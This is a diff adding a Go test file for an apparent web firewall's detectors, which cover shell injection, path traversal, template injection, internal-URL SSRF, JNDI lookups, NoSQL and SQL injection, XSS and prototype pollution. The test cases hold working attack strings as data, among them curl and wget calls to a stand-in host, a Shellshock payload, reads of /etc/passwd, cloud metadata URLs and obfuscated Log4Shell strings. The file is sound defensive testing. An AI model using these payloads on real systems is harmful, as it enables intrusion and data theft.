@@ -1,0 +1,167 @@
+package rules
+
+import (
+	"net/netip"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// lowerInput builds an Input whose views are all the lower-case value, which
+// is what the confirmers below read.
+func lowerInput(s string) *Input {
+	lower := strings.ToLower(s)
+	return &Input{Raw: s, Decoded: s, Lower: lower, RawLower: lower, Folded: lower}
+}
+
+func TestConfirmers(t *testing.T) {
+	cases := []struct {
+		confirmer string
+		value     string
+		want      bool
+	}{
+		{"shell-command", "; cat /etc/passwd", true},
+		{"shell-command", "a|id", true},
+		{"shell-command", "`whoami`", true},
+		{"shell-command", "$(curl http://x.test/a)", true},
+		{"shell-command", "127.0.0.1 && ping -c 3 127.0.0.1", true},
+		{"shell-command", "netstat -an", true},
+		{"shell-command", "\nwget http://x.test/s.sh", true},
+		{"shell-command", "() { :;}; /bin/bash -c id", true},
+		{"shell-command", "net user hacker pass /add", true},
+		{"shell-command", "Sorry; type your name again", false},
+		{"shell-command", "Fish & chips; cat lovers welcome", false},
+		{"shell-command", "You can update a visitor by passing in the `id` of the visitor", false},
+		{"shell-command", "#!/bin/bash\napt-get update\ncurl -sSL https://x.test | sh", false},
+		{"shell-command", "whoami", false},
+
+		{"path-traversal", "../../etc/passwd", true},
+		{"path-traversal", `..\..\windows\win.ini`, true},
+		{"path-traversal", "....//....//etc/hosts", true},
+		{"path-traversal", "..;/admin/secret", true},
+		{"path-traversal", "/etc/shadow", true},
+		{"path-traversal", "php://filter/convert.base64-encode/resource=index.php", true},
+		{"path-traversal", "..0x5c..0x5cboot.ini", true},
+		{"path-traversal", "..%c1%pc..%c1%pcetc", true},
+		{"path-traversal", "image.png\x00.php", true},
+		{"path-traversal", "https://example.com/docs/.../more", false},
+		{"path-traversal", `<a href="../">up</a>`, false},
+		{"path-traversal", "Wait... what happened?", false},
+		{"path-traversal", "etc. hosts are listed", false},
+
+		{"template-expr", "{{7*7}}", true},
+		{"template-expr", "${7*'7'}", true},
+		{"template-expr", "{{''.__class__.__mro__}}", true},
+		{"template-expr", "${T(java.lang.Runtime).getRuntime().exec('id')}", true},
+		{"template-expr", "<%= 7 * 7 %>", true},
+		{"template-expr", "#{7*7}", true},
+		{"template-expr", "{{'a'.toUpperCase()}}", true},
+		{"template-expr", "#set($x = 1)", true},
+		{"template-expr", "Hello {{first_name}}, your order {{ order.id }} shipped", false},
+		{"template-expr", "Price: ${amount}", false},
+
+		{"internal-url", "http://127.0.0.1/admin", true},
+		{"internal-url", "http://169.254.169.254/latest/meta-data/", true},
+		{"internal-url", "http://metadata.google.internal/computeMetadata/v1/", true},
+		{"internal-url", "http://2130706433/", true},
+		{"internal-url", "http://0x7f.1/", true},
+		{"internal-url", "http://0177.0.0.1/", true},
+		{"internal-url", "http://[::1]:8080/", true},
+		{"internal-url", "http://[::ffff:127.0.0.1]/", true},
+		{"internal-url", "http://[fd00:ec2::254]/latest/", true},
+		{"internal-url", "http://localhost:6379/", true},
+		{"internal-url", "http://good.example@127.0.0.1/", true},
+		{"internal-url", "http://127.0.0.1.nip.io/", true},
+		{"internal-url", "gopher://x.test:25/_HELO", true},
+		{"internal-url", "file:///etc/passwd", true},
+		{"internal-url", "http://0xa9fea9fe/", true},
+		{"internal-url", "http://012.0.0.1/", true},
+		{"internal-url", "https://api.example.com/webhook", false},
+		{"internal-url", "https://user:pass@192.168.0.1:25060/db", false},
+		{"internal-url", "see the docs at https://docs.example.org", false},
+		{"private-url", "https://user:pass@192.168.0.1:25060/db", true},
+		{"private-url", "http://10.0.0.5/", true},
+		{"private-url", "https://api.example.com/", false},
+
+		{"jndi-lookup", "${jndi:ldap://x.test/a}", true},
+		{"jndi-lookup", "${${lower:j}ndi:ldap://x.test/a}", true},
+		{"jndi-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", true},
+		{"jndi-lookup", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.test/a}", true},
+		{"jndi-lookup", "${user.name} logged in", false},
+
+		{"nosql-javascript", "', $where: '1 == 1'", true},
+		{"nosql-javascript", "{$gt: ''}", true},
+		{"nosql-javascript", "';sleep(5000);", true},
+		{"nosql-javascript", "' && this.password.match(/.*/)//", true},
+		{"nosql-javascript", "[$ne]=1", true},
+		{"nosql-javascript", "}, { password : /.*/ }", true},
+		{"nosql-javascript", "Pay $20 for the ticket", false},
+		{"nosql-javascript", "return policy: 30 days", false},
+
+		{"libinjection-sqli", "1' OR '1'='1", true},
+		{"libinjection-sqli", "1 UNION SELECT password FROM users--", true},
+		{"libinjection-sqli", "admin'--", true},
+		{"libinjection-sqli", "SELECT id, name FROM users WHERE id = $1", false},
+		{"libinjection-sqli", `"LIKE" STAMP`, false},
+		{"libinjection-sqli", "80% ACRYLIC AND 20% WOOL", false},
+		{"libinjection-sqli", "Western Union", false},
+
+		{"libinjection-xss", "<script>alert(1)</script>", true},
+		{"libinjection-xss", `<img src=x onerror=alert(1)>`, true},
+		{"libinjection-xss", "Ben & Jerry's <3", false},
+	}
+	require.NotEmpty(t, cases)
+	for _, tc := range cases {
+		t.Run(tc.confirmer+"/"+tc.value, func(t *testing.T) {
+			confirm, ok := confirmers[tc.confirmer]
+			require.True(t, ok, "confirmer %s is registered", tc.confirmer)
+			assert.Equal(t, tc.want, confirm(lowerInput(tc.value)))
+		})
+	}
+}
+
+func TestParseLooseIP(t *testing.T) {
+	cases := []struct {
+		host string
+		want string
+	}{
+		{"127.0.0.1", "127.0.0.1"},
+		{"2130706433", "127.0.0.1"},
+		{"0x7f000001", "127.0.0.1"},
+		{"0177.0.0.01", "127.0.0.1"},
+		{"127.1", "127.0.0.1"},
+		{"10.1.2", "10.1.0.2"},
+		{"0x7f.0.0.0x1", "127.0.0.1"},
+		{"::1", "::1"},
+	}
+	require.NotEmpty(t, cases)
+	for _, tc := range cases {
+		addr, ok := parseLooseIP(tc.host)
+		require.True(t, ok, tc.host)
+		assert.Equal(t, netip.MustParseAddr(tc.want), addr, tc.host)
+	}
+	for _, host := range []string{"example.com", "1.2.3.4.5", "256.1.1.1", "1.2.3.999", ""} {
+		_, ok := parseLooseIP(host)
+		assert.False(t, ok, host)
+	}
+}
+
+func TestChecks(t *testing.T) {
+	key := func(path ...string) *Input {
+		in := lowerInput(path[len(path)-1])
+		f := keyField(path...)
+		in.Field = &f
+		return in
+	}
+	assert.True(t, checkMongoOperatorKey(key("pass", "$ne")))
+	assert.True(t, checkMongoOperatorKey(key("$where")))
+	assert.False(t, checkMongoOperatorKey(key("price", "$amount")), "a $ key that is no operator")
+	assert.False(t, checkMongoOperatorKey(key("ne")))
+	assert.True(t, checkPrototypePollutionKey(key("__proto__")))
+	assert.True(t, checkPrototypePollutionKey(key("a", "constructor", "prototype")))
+	assert.True(t, checkPrototypePollutionKey(key("constructor.prototype.isAdmin")))
+	assert.False(t, checkPrototypePollutionKey(key("prototype")), "prototype alone is an ordinary key")
+	assert.False(t, checkPrototypePollutionKey(key("constructor")))
+}
